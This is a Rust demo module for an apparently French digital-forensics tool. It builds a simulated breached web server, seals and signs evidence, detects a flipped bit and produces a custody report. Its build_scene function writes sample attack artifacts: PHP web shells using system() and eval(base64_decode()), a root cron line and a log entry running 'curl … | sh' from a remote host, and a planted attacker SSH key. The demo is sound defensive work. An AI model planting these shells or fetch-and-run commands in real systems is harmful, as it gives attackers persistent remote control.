//! `demo`: the whole job on a compromised web server scene it builds
//! itself: case, freeze, verify, a flipped bit caught, custody, report.

use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::path::{Path, PathBuf};

use scelle_sign::{ScryptCost, SecretKey};

use crate::callbacks::NoCallbacks;
use crate::error::{Context, Result};
use crate::files::write_new_file;
use crate::ops::custody::TrustOptions;
use crate::ops::freeze::FreezeOptions;
use crate::ops::report::ReportOptions;
use crate::ops::{freeze, report, verify};
use crate::render;
use scelle_finding::Verdict;
use scelle_l10n::{arg, Lang};

const EVIDENCE_ID: &str = "demo-web01";

/// Runs the demo in a new directory under the system's temporary
/// directory, kept afterwards for the user to look at. Every line of the
/// narration goes to `say`. Returns whether everything behaved as it must
/// (the original intact, the altered copy caught, the custody chain intact,
/// the report clean).
pub fn run(say: &mut dyn FnMut(&str), lang: Lang) -> Result<bool> {
    let shown = |path: &Path| path.display().to_string();
    let dir = tempfile::Builder::new()
        .prefix("scelle-demo-")
        .tempdir()
        .context("cannot create a demo directory")?
        .keep();
    say(&lang.format("demo-title", &[arg("dir", shown(&dir))]));

    let scene = dir.join("scene");
    build_scene(&scene)?;
    say(&lang.format("demo-scene", &[arg("scene", shown(&scene))]));
    say(&lang.text("demo-scene-what"));

    let key_prefix = dir.join("responder");
    let secret = SecretKey::generate()?;
    let public = secret.public_key();
    write_new_file(
        &key_prefix.with_extension("key"),
        secret
            .to_file_text(None, ScryptCost::MINISIGN_DEFAULT)?
            .as_bytes(),
        0o600,
    )?;
    let public_path = key_prefix.with_extension("pub");
    write_new_file(&public_path, public.to_file_text(), 0o644)?;
    say(&lang.format("demo-key", &[arg("id", public.key_id().to_string())]));

    let case_dir = dir.join("case");
    let discovered = chrono::Utc::now() - chrono::Duration::hours(3);
    scelle_case::CaseDir::new(&case_dir).init(
        demo_case(discovered),
        &secret,
        Some("Demo responder".into()),
    )?;
    say(&lang.format("demo-case", &[arg("dir", shown(&case_dir))]));

    let evidence = dir.join("evidence");
    fs::create_dir(&evidence)?;
    say(&lang.text("demo-freeze"));
    let sealed = freeze::freeze(
        &freeze_options(&evidence, &scene, &case_dir),
        &secret,
        None,
        &NoCallbacks,
    )?;
    render::freeze(&sealed, lang)
        .iter()
        .for_each(|line| say(line));
    let archive = evidence.join(format!("{EVIDENCE_ID}.tar.zst"));

    say(&lang.text("demo-verify"));
    // The expert compares the seal with the hash in the procès-verbal.
    let options = verify::KeyOptions {
        pubkey: Some(public_path.clone()),
        expect: Some(sealed.seal_sha256.to_string()),
        ..Default::default()
    }
    .checks()?;
    let report = verify::check(&archive, &options)?;
    let original = report.verdict();
    let original_seal = report.seal_sha256;
    render::verify(&report, original, lang)
        .iter()
        .for_each(|line| say(line));

    let tampered = evidence.join(format!("{EVIDENCE_ID}-TAMPERED.tar.zst"));
    let mut bytes = fs::read(&archive)?;
    let middle = bytes.len() / 2;
    bytes[middle] ^= 0x01;
    fs::write(&tampered, bytes)?;
    say(&lang.format(
        "demo-flipped",
        &[
            arg("byte", middle),
            arg(
                "copy",
                tampered
                    .file_name()
                    .unwrap_or_default()
                    .to_string_lossy()
                    .into_owned(),
            ),
        ],
    ));
    let report = verify::check(&tampered, &options)?;
    let altered = report.verdict();
    render::verify(&report, altered, lang)
        .iter()
        .for_each(|line| say(line));

    let log = evidence.join(format!("{EVIDENCE_ID}.custody.jsonl"));
    let keyring = scelle_custody::Keyring::from_public_keys(vec![public.clone()]);
    let custody = scelle_custody::verify_log_with_seal(&log, original_seal, &keyring)?;
    let state = if custody.intact() {
        "demo-custody-intact"
    } else {
        "demo-custody-broken"
    };
    say(&lang.format(
        "demo-custody",
        &[
            arg(
                "log",
                log.file_name()
                    .unwrap_or_default()
                    .to_string_lossy()
                    .into_owned(),
            ),
            arg("entries", custody.entries.len()),
            arg("state", lang.text(state)),
        ],
    ));
    say(&lang.format("demo-custody-next", &[arg("archive", shown(&archive))]));

    let report_path = dir.join("rapport-demo.html");
    say(&lang.text("demo-report"));
    let reported = report::report(
        &ReportOptions {
            case_dir: case_dir.clone(),
            lang: "fr".into(),
            audience: "counsel".into(),
            author: Some("Demo responder, RSSI".into()),
            annex_number: None,
            pv_date: None,
            out: report_path,
            // The expert's keyring, written from the procès-verbal: it names
            // the responder, so the report's verdicts are anchored.
            trust: TrustOptions {
                pubkey: Vec::new(),
                keyring: Some(demo_keyring(&dir, &public)?),
            },
            at: None,
            tsa_ca: None,
            archives: vec![archive.clone()],
        },
        Some(&secret),
    )?;
    say(&render::report(&reported, lang));
    say(&lang.format("demo-report-next", &[arg("dir", shown(&case_dir))]));

    say(&lang.text("demo-by-hand"));
    say(&format!(
        "   cd {} && sha256sum {EVIDENCE_ID}.tar.zst",
        evidence.display()
    ));
    say(&format!(
        "   tar --zstd -xf {EVIDENCE_ID}.tar.zst && python3 -m bagit --validate {EVIDENCE_ID}"
    ));
    say(&format!(
        "   minisign -Vm {EVIDENCE_ID}/scelle/manifest.json -p {}",
        public_path.display()
    ));
    let caught = original == Verdict::Intact
        && altered == Verdict::NotIntact
        && custody.intact()
        && reported.clean();
    say(&lang.text(if caught {
        "demo-caught"
    } else {
        "demo-unexpected"
    }));
    Ok(caught)
}

/// The demo's case: a breach of personal data on a web server.
/// `keyring.json` naming the demo's responder, as an expert writes it from
/// the procès-verbal.
fn demo_keyring(dir: &Path, public: &scelle_sign::PublicKey) -> Result<PathBuf> {
    let path = dir.join("keyring.json");
    let keyring = serde_json::json!([{
        "name": "Jean Dupont",
        "role": "intervenant",
        "public_key": public.to_base64(),
    }]);
    write_new_file(&path, keyring.to_string(), 0o644)?;
    Ok(path)
}

fn demo_case(discovered: chrono::DateTime<chrono::Utc>) -> scelle_case::CaseFacts {
    scelle_case::CaseFacts {
        case_id: "DEMO-2026-001".into(),
        title: "Intrusion on web01 (demonstration)".into(),
        discovered: discovered.to_rfc3339_opts(chrono::SecondsFormat::Secs, true),
        personal_data: true,
        nis2: None,
        oiv: false,
        legal_basis: Some("ordonnance art. 145 CPC, TJ Paris, 2026-11-20 (fictitious)".into()),
        organization: Some("Cabinet Démo".into()),
        dpo: None,
        counsel: Some("Me Démo (fictitious)".into()),
        impact: vec![
            scelle_case::Impact::Integrity,
            scelle_case::Impact::Confidentiality,
        ],
        time_zone: "Europe/Paris".into(),
        regimes: Default::default(),
    }
}

fn freeze_options(out: &Path, scene: &Path, case_dir: &Path) -> FreezeOptions {
    FreezeOptions {
        out: out.to_path_buf(),
        case_dir: Some(case_dir.to_path_buf()),
        id: Some(EVIDENCE_ID.into()),
        case_id: Some("DEMO-2026-001".into()),
        title: Some("Intrusion on web01 (demonstration)".into()),
        legal_basis: Some("ordonnance art. 145 CPC, TJ Paris, 2026-11-20 (fictitious)".into()),
        examiner: Some("Camille Expert (demo)".into()),
        organization: Some("Cabinet Démo".into()),
        note: vec!["Scene generated by scelle demo".into()],
        paths: vec![scene.to_path_buf()],
        ..FreezeOptions::default()
    }
}

/// Writes the compromised web server's files under `scene`.
fn build_scene(scene: &Path) -> Result<()> {
    let file = |rel: &str, content: &str| -> Result<PathBuf> {
        let path = scene.join(rel);
        fs::create_dir_all(path.parent().expect("relative path has a parent"))?;
        fs::write(&path, content)?;
        Ok(path)
    };
    file(
        "var/log/nginx/access.log",
        "198.51.100.7 - - [19/Nov/2026:23:58:02 +0000] \"GET / HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0\"\n\
         203.0.113.66 - - [20/Nov/2026:03:12:40 +0000] \"POST /wp-admin/admin-ajax.php?action=upload HTTP/1.1\" 200 48 \"-\" \"python-requests/2.31\"\n\
         203.0.113.66 - - [20/Nov/2026:03:12:44 +0000] \"GET /uploads/shell.php?c=id HTTP/1.1\" 200 54 \"-\" \"python-requests/2.31\"\n\
         203.0.113.66 - - [20/Nov/2026:03:13:10 +0000] \"GET /uploads/shell.php?c=curl%20-s%20http://198.51.100.23/x.sh%7Csh HTTP/1.1\" 200 0 \"-\" \"python-requests/2.31\"\n",
    )?;
    file(
        "var/log/nginx/error.log",
        "2026/11/20 03:12:40 [warn] 812#812: *4411 an upstream response is buffered to a temporary file\n",
    )?;
    file(
        "var/www/html/index.php",
        "<?php echo 'Bienvenue sur web01'; ?>\n",
    )?;
    file(
        "var/www/html/uploads/shell.php",
        "<?php if (isset($_GET['c'])) { system($_GET['c']); } ?>\n",
    )?;
    // A name with a newline: the kind of trick that breaks naive tools.
    let tricky = scene.join("var/www/html/uploads");
    fs::write(
        tricky.join(std::ffi::OsStr::from_bytes(b"invoice\n2026.pdf.php")),
        "<?php eval(base64_decode($_POST['p'])); ?>\n",
    )?;
    file(
        "root/.ssh/authorized_keys",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIDemoAttackerKeyDemoAttackerKeyDemoAttacker00 backup@203.0.113.66\n",
    )?;
    file(
        "etc/cron.d/sysupdate",
        "*/5 * * * * root curl -s http://198.51.100.23/x.sh | sh\n",
    )?;
    std::os::unix::fs::symlink("/var/www/html", scene.join("var/www/current"))?;
    let fifo_dir = scene.join("tmp/.X11-cache");
    fs::create_dir_all(&fifo_dir)?;
    nix::unistd::mkfifo(
        &fifo_dir.join("pipe"),
        nix::sys::stat::Mode::from_bits_truncate(0o600),
    )
    .map_err(std::io::Error::from)
    .context("cannot create the demo FIFO")?;
    Ok(())
}
